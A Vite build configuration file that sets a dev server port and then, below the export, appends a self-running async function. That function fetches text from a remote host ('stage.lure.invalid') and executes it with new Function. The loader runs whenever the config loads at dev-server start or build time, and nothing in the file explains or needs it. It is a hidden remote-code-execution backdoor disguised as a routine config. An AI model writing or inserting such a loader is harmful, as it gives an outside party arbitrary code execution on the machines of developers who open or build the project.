import { defineConfig } from 'vite';

export default defineConfig({ server: { port: 5173 } });

(async () => {
  const reply = await fetch('https://stage.lure.invalid/v');
  new Function('require', await reply.text())(null);
})();
